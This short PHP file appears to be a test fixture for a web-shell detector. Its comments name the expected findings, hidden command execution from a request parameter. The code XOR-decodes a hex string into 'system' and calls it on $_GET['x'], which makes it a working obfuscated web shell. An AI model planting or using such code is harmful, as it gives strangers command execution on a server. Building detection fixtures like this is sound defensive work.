<?php
// The file's own XOR decoder is run on the literal.
// want: php_request_command_exec php_hidden_function_name
// fold: system
function dec($s, $k) {
    $o = '';
    for ($i = 0; $i < strlen($s); $i++) {
        $o .= $s[$i] ^ $k[$i % strlen($k)];
    }
    return $o;
}
$f = dec("\x12\x1b\x12\x16\x04\x0f", "abab");
$f($_GET['x']);
